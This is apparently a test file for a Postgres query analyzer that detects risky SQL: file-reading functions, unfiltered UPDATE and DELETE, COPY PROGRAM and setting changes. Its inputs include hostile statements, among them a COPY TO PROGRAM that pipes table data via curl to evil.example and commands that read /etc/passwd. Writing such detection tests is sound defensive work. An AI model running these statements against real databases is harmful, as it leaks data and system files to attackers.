import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { analyzePostgres, initAnalysis } from '../../../src/analysis/index.js';

const facts = (sql: string) => analyzePostgres(sql).facts;

describe('analyzePostgres: tables, functions, filters, COPY, settings', () => {
  before(() => initAnalysis());

  it('functions: schema dropped, quoted names resolved, lower-case', () => {
    assert.deepEqual(facts("SELECT pg_catalog.pg_read_file('/etc/passwd')").functions, ['pg_read_file']);
    assert.deepEqual(facts('SELECT "pg_read_file"(\'/etc/passwd\')').functions, ['pg_read_file']);
    assert.deepEqual(facts("SELECT PG_READ_FILE('/etc/passwd')").functions, ['pg_read_file']);
  });

  it('functions anywhere: subquery, ORDER BY, LATERAL, WHERE, DEFAULT, CTE, VALUES', () => {
    const cases: [string, string][] = [
      ["SELECT * FROM orders WHERE id IN (SELECT lo_export(1, '/tmp/x'))", 'lo_export'],
      ['SELECT id FROM orders ORDER BY pg_sleep(1)', 'pg_sleep'],
      ['SELECT * FROM orders o, LATERAL pg_ls_dir(o.path) d', 'pg_ls_dir'],
      ['SELECT * FROM orders WHERE dblink_exec(cmd) IS NULL', 'dblink_exec'],
      ["CREATE TABLE t (id int DEFAULT nextval('s'))", 'nextval'],
      ['WITH x AS (SELECT pg_terminate_backend(1)) SELECT * FROM x', 'pg_terminate_backend'],
      ["INSERT INTO t VALUES (current_setting('a'))", 'current_setting'],
      ["SELECT count(*) FILTER (WHERE lower(a) = 'x') FROM t GROUP BY upper(b)", 'lower'],
      ['UPDATE t SET a = 1 WHERE id = 1 RETURNING md5(a::text)', 'md5'],
    ];
    for (const [sql, fn] of cases) assert.ok(facts(sql).functions.includes(fn), `${fn} in ${sql}`);
    assert.deepEqual(
      facts("SELECT count(*) FILTER (WHERE lower(a) = 'x') FROM t GROUP BY upper(b)").functions.slice().sort(),
      ['count', 'lower', 'upper'],
    );
  });

  it('tables: lower-case, schema kept when written, CTE names are not tables', () => {
    const f = facts('SELECT * FROM Public.Customers c JOIN "Orders" o ON o.cid = c.id, ONLY items');
    assert.deepEqual(f.tables, ['public.customers', 'orders', 'items']);
    assert.deepEqual(f.writtenTables, []);
    const w = facts('UPDATE public.customers SET email = NULL WHERE id = 1');
    assert.deepEqual(w.writtenTables, ['public.customers']);
    // a CTE shadows a table only inside its own WITH scope
    assert.deepEqual(facts('SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) a, secrets').tables, [
      'secrets',
    ]);
    // a non-recursive CTE does not see a later CTE of the same name: that is a table
    assert.deepEqual(facts('WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a').tables, ['b']);
    // a write target is never a CTE
    assert.deepEqual(facts('WITH t AS (SELECT 1) DELETE FROM t WHERE id = 1').writtenTables, ['t']);
  });

  it('UPDATE/DELETE need a WHERE; constant-true conditions do not count', () => {
    const cases: [string, boolean][] = [
      ['DELETE FROM orders WHERE id = 7', true],
      ['DELETE FROM orders', false],
      ['DELETE FROM orders WHERE true', false],
      ['DELETE FROM orders WHERE 1=1', false],
      ["DELETE FROM orders WHERE 'a' = 'a'", false],
      ['DELETE FROM orders WHERE id = 7 OR 1=1', false],
      ['DELETE FROM orders WHERE 1=1 AND id = 7', true],
      ['DELETE FROM orders WHERE NOT false', false],
      ['UPDATE orders SET paid = true', false],
      ['UPDATE orders SET paid = true WHERE 1 = 1', false],
      // a subquery is a value only when it is bounded itself (every refund ever is not)
      ['UPDATE orders SET paid = true WHERE id IN (SELECT order_id FROM refunds)', false],
      ["UPDATE orders SET paid = true WHERE id IN (SELECT order_id FROM refunds WHERE day = '2024-01-01')", true],
      ['UPDATE orders SET paid = true WHERE CURRENT OF c', true],
      ['SELECT * FROM orders', true],
    ];
    for (const [sql, filtered] of cases) assert.equal(facts(sql).allWritesFiltered, filtered, sql);
    assert.equal(facts('SELECT * FROM orders').writes, false);
    assert.equal(facts('DELETE FROM orders WHERE id = 7').writes, true);
  });

  it('INSERT … SELECT must read through WHERE or LIMIT; VALUES is fine', () => {
    const cases: [string, boolean][] = [
      ['INSERT INTO archive SELECT * FROM orders', false],
      ['INSERT INTO archive SELECT * FROM orders WHERE true', false],
      ['INSERT INTO archive SELECT * FROM orders WHERE created < now()', true],
      ['INSERT INTO archive SELECT * FROM orders LIMIT 100', true],
      ['INSERT INTO archive SELECT * FROM orders LIMIT ALL', false],
      ['INSERT INTO archive SELECT * FROM a WHERE x = 1 UNION ALL SELECT * FROM b', false],
      ['INSERT INTO archive SELECT * FROM a WHERE x = 1 UNION ALL SELECT * FROM b WHERE y = 2', true],
      ['INSERT INTO archive TABLE orders', false],
      ['INSERT INTO archive VALUES (1, 2)', true],
      ['INSERT INTO archive DEFAULT VALUES', true],
    ];
    for (const [sql, filtered] of cases) {
      const f = facts(sql);
      assert.equal(f.allWritesFiltered, filtered, sql);
      assert.equal(f.writes, true, sql);
      assert.deepEqual(f.writtenTables, ['archive'], sql);
    }
  });

  it('COPY … PROGRAM and COPY to or from a server file', () => {
    const toProgram = facts("COPY orders TO PROGRAM 'curl -d @- https://evil.example'");
    assert.equal(toProgram.copyProgram, true);
    assert.equal(toProgram.serverFile, false);
    assert.equal(toProgram.writes, false);
    const fromProgram = facts("COPY orders FROM PROGRAM 'cat /etc/passwd'");
    assert.equal(fromProgram.copyProgram, true);
    assert.equal(fromProgram.writes, true);
    assert.deepEqual(fromProgram.writtenTables, ['orders']);

    const toFile = facts("COPY (SELECT * FROM customers) TO '/tmp/out.csv' WITH (FORMAT csv)");
    assert.equal(toFile.serverFile, true);
    assert.equal(toFile.copyProgram, false);
    assert.deepEqual(toFile.tables, ['customers']);
    const fromFile = facts("COPY orders FROM '/var/lib/postgresql/in.csv'");
    assert.equal(fromFile.serverFile, true);
    assert.equal(fromFile.writes, true);

    const stdio = facts('COPY orders FROM STDIN');
    assert.equal(stdio.serverFile, false);
    assert.equal(stdio.copyProgram, false);
    assert.equal(facts('COPY orders TO STDOUT').writes, false);
  });

  it('settings: SET/RESET and set_config, a non-literal name adds *', () => {
    assert.deepEqual(facts('SET search_path TO evil, public').settings, ['search_path']);
    assert.deepEqual(facts('SET LOCAL statement_timeout = 0').settings, ['statement_timeout']);
    assert.deepEqual(facts('RESET ALL').settings, ['all', '*']);
    const viaFunction = facts("SELECT set_config('ROLE', 'admin', false)");
    assert.deepEqual(viaFunction.settings, ['role']);
    assert.deepEqual(viaFunction.kinds, ['select']);
    assert.deepEqual(viaFunction.functions, ['set_config']);
    assert.deepEqual(facts("SELECT pg_catalog.set_config(name, 'x', false) FROM t").settings, ['*']);
    assert.deepEqual(facts("SELECT set_config('a' || 'b', 'x', false)").settings, ['*']);
    assert.deepEqual(
      facts("SELECT set_config(new_value => 'x', setting_name => 'search_path', is_local => false)").settings,
      ['search_path'],
    );
    assert.deepEqual(facts('SELECT 1').settings, []);
  });

  it('fingerprint ignores literal values', () => {
    const a = facts('SELECT * FROM orders WHERE id = 1').fingerprint;
    assert.match(a, /^[0-9a-f]{16}$/);
    assert.equal(facts('SELECT * FROM orders WHERE id = 99').fingerprint, a);
    assert.notEqual(facts('SELECT * FROM customers WHERE id = 1').fingerprint, a);
  });
});
